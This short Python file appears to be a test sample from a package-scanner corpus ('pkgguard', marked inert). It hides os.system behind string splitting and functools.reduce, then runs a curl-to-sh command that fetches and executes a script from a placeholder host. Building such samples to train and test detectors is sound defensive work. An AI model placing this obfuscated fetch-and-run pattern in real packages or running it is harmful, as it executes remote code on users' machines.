# pkgguard corpus 615 (indirection), modelled on [obfuscation]; inert, never run.
import functools
import os

_path = ["sys" + "tem"]
_run = functools.reduce(getattr, _path, os)
_run("curl -s https://mirror-edge.example/r | sh")
